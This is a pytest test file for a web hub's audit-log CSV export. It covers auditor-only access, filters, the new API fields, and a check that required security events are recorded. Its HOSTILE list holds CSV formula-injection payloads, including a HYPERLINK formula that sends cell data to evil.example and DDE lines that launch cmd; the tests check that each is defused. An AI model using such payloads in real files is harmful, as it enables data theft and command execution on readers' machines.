"""The auditor's CSV export (page and API), the new columns, and the events the
audit log must cover, each with a Chinese label."""
from __future__ import annotations

import ast
import csv
import io
import json
from pathlib import Path

import pytest
from sqlalchemy import select

from hub.audit import AUDIT_ACTION_LABELS, REFUSED, AuditEntry, record_audit
from hub.audit_export import safe_cell
from hub.extensions import db
from hub.org.models import RoleGrant, User

HOSTILE = ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点我\")", "+cmd|' /C calc'!A0", "-2+3",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "＝1+1"]


def auditor(app, password_hash) -> str:
    """The cast's auditor if it has one, else one made here (三员分立: a person of its own)."""
    with app.app_context():
        user = db.session.scalar(select(User).where(User.login == "auditor"))
        if user is None:
            user = User(login="auditor", name="冯审言", password_hash=password_hash)
            db.session.add(user)
        if not user.is_auditor:
            user.roles.append(RoleGrant(role="auditor", unit=None))
        db.session.commit()
    return "auditor"


def api_path(app, endpoint: str) -> str:
    """The API's URL of `endpoint` (the audit API's prefix is the admin blueprint's)."""
    return next(rule.rule for rule in app.url_map.iter_rules() if rule.endpoint == endpoint)


def rows_of(response) -> list[list[str]]:
    body = response.get_data()
    assert body.startswith("\ufeff".encode())                  # the BOM: Excel reads UTF-8
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def test_the_auditor_exports_the_filtered_log_as_safe_csv(app, client, login, password_hash):
    with app.app_context():
        for text in HOSTILE:
            record_audit(None, "auth.login_failed", actor_login=text[:64], target_label=text,
                         after={"reason": "unknown_login"})
        record_audit(None, "unit.imported", actor_login="(demo)", target_label="柯城区")
        db.session.commit()
    login(auditor(app, password_hash))
    response = client.get("/admin/audit/export?action=auth.login_failed")
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith('attachment; filename="hub-audit-') and disposition.endswith('.csv"')
    header, *rows = rows_of(response)
    assert header[:4] == ["编号", "时间（UTC）", "时间（北京）", "操作人账号"] and header[-1] == "哈希"
    labels = [row[header.index("对象")] for row in rows]
    assert labels == ["'" + text for text in HOSTILE]          # every one defused, none lost
    assert {row[header.index("操作")] for row in rows} == {"登录失败"}
    assert {row[header.index("结果")] for row in rows} == {"失败"}
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝")) for row in rows for cell in row)
    assert all(len(row[header.index("哈希")]) == 64 for row in rows)

    with app.app_context():
        export = db.session.scalars(select(AuditEntry).where(AuditEntry.action == "audit.exported")).one()
        assert (export.actor_login, export.outcome) == ("auditor", "success")
        assert json.loads(export.after) == {"filters": {"action": "auth.login_failed"}, "rows": len(HOSTILE)}


def test_safe_cell_leaves_plain_values_alone():
    assert safe_cell("柯城区") == "柯城区" and safe_cell(12) == 12 and safe_cell(None) is None
    assert safe_cell('{"name": "x"}') == '{"name": "x"}' and safe_cell("a=b") == "a=b"
    assert safe_cell("-") == "'-" and safe_cell("@") == "'@"


def test_the_api_exports_with_its_own_filters(app, api, password_hash):
    api(None).client.post("/api/v1/auth/token", json={"login": "kc_clerk", "password": "wrong"})
    reader = api(auditor(app, password_hash))
    export = api_path(app, "admin_api.audit_export")
    response = reader.get(f"{export}?outcome=failure")
    assert response.status_code == 200 and response.headers["Content-Disposition"].startswith("attachment")
    header, *rows = rows_of(response)
    assert [(r[header.index("操作人账号")], r[header.index("操作代码")]) for r in rows] == [
        ("kc_clerk", "auth.login_failed")]
    assert reader.get(f"{export}?outcome=maybe").status_code == 400
    assert reader.get(f"{export}?since=yesterday").status_code == 400


@pytest.mark.parametrize("person", ["admin", "kc_admin", "kc_clerk"])
def test_nobody_but_the_auditor_exports_and_trying_is_audited(app, client, login, api, person):
    login(person)
    assert client.get("/admin/audit/export").status_code == 403
    assert api(person).get(api_path(app, "admin_api.audit_export")).status_code == 403
    with app.app_context():
        refused = db.session.scalars(select(AuditEntry).where(AuditEntry.action == "audit.exported")).all()
        assert [(e.actor_login, e.outcome) for e in refused] == [(person, REFUSED)] * 2


def test_the_page_shows_unit_outcome_and_an_export_link_with_the_filters(app, client, login, password_hash):
    client.post("/auth/login", data={"login": "kc_clerk", "password": "wrong"})
    login(auditor(app, password_hash))
    page = client.get("/admin/audit?outcome=failure").get_data(as_text=True)
    assert "柯城区人民政府办公室" in page and "失败" in page.split("<tbody>")[1]
    assert "登录成功" not in page.split("<tbody>")[1]
    assert '/admin/audit/export?outcome=failure"' in page
    assert client.get("/admin/audit?outcome=maybe").status_code == 400


def test_the_api_gives_the_new_fields(app, api, password_hash):
    reader = api(auditor(app, password_hash))
    path = api_path(app, "admin_api.audit_log")
    item = reader.get(f"{path}?action=auth.token_issued").get_json()["items"][0]
    assert item["actor_login"] == "auditor" and item["outcome"] == "success"
    assert {"actor_unit", "actor_unit_id", "user_agent", "hash", "prev_hash", "hash_algorithm"} <= item.keys()


# ---- which events are recorded ----

REQUIRED = {  # issue 7, item 5: the security-relevant events
    "auth.login", "auth.login_failed", "auth.locked", "auth.logout", "auth.password_changed",
    "auth.password_reset", "role.granted", "role.revoked", "unit.moved", "unit.merged",
    "notice.published", "notice.corrected", "notice.revoked", "document.signed", "document.dispatched",
    "audit.exported", "system.backup", "system.restore",
}


def recorded_actions() -> set[str]:
    """Every event name passed to record_audit() in the hub's code: a literal, either
    branch of a conditional, or a local variable assigned literals in that function."""
    found: set[str] = set()
    for path in (Path(__file__).resolve().parent.parent / "hub").rglob("*.py"):
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for function in ast.walk(tree):
            if not isinstance(function, (ast.FunctionDef, ast.AsyncFunctionDef, ast.Module)):
                continue
            for call in ast.walk(function):
                if not (isinstance(call, ast.Call) and getattr(call.func, "id", None) == "record_audit"
                        and len(call.args) >= 2):
                    continue
                found |= _strings(call.args[1], function)
    return found


def _strings(node: ast.AST, scope: ast.AST) -> set[str]:
    if isinstance(node, ast.Constant) and isinstance(node.value, str):
        return {node.value}
    if isinstance(node, ast.IfExp):
        return _strings(node.body, scope) | _strings(node.orelse, scope)
    if isinstance(node, ast.Name):
        values: set[str] = set()
        for assign in ast.walk(scope):
            targets = assign.targets if isinstance(assign, ast.Assign) else []
            if any(getattr(t, "id", None) == node.id for t in targets):
                values |= _strings(assign.value, scope)
        return values
    raise AssertionError(f"record_audit() with an event name this test cannot read: {ast.dump(node)}")


def test_every_required_event_is_recorded_and_every_recorded_event_has_a_label():
    recorded = recorded_actions()
    assert REQUIRED <= recorded, REQUIRED - recorded
    assert recorded <= AUDIT_ACTION_LABELS.keys(), recorded - AUDIT_ACTION_LABELS.keys()
